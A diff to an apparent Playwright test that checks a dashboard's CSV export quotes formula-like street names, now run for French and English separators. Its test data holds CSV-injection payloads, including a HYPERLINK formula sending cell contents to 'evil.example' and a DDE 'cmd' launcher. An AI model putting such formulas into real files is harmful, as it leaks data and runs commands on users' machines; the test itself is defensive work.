@@ -134,13 +134,18 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Rue")', "+cmd|' /C calc'!A0"
             "\t=1+1"]
 
 
-def test_the_ranking_csv_export_neutralises_formulas_and_keeps_numbers(site: tuple[str, int], page: Any) -> None:
+@pytest.mark.parametrize(("lang", "separator", "negative"), [("fr", ";", "-0,25"), ("en", ",", "-0.25")])
+def test_the_ranking_csv_export_neutralises_formulas_and_keeps_numbers(
+    site: tuple[str, int], page: Any, lang: str, separator: str, negative: str
+) -> None:
     """The dashboard builds its CSV in the browser (``ranking.js`` ``csvCell``): OSM names that are
-    formulas get a leading quote there too, while a negative JS number stays a number."""
+    formulas get a leading quote there too, while a negative JS number stays a number; in either
+    language's separator (a name holding that separator is quoted, not split)."""
     import csv
     import io
 
     url, _ = site
+    page.context.add_cookies([{"name": "trivue_lang", "value": lang, "url": url}])
 
     def hostile(route: Any) -> None:
         body = route.fetch().json()
@@ -159,7 +164,7 @@ def test_the_ranking_csv_export_neutralises_formulas_and_keeps_numbers(site: tup
         text = download.value.path().read_text(encoding="utf-8-sig")
     finally:
         page.unroute("**/api/streets?*")
-    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
+    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=separator))
     names = [r["name"] for r in rows]
     assert len(rows) == len(PAYLOADS) and sorted(names) == sorted("'" + f for f in FORMULAS[:len(rows)]), names
-    assert "-0,25" in [r["rate"] for r in rows]  # a number, with the decimal comma of a French spreadsheet
+    assert negative in [r["rate"] for r in rows]  # a number, in the decimal mark of the page's language
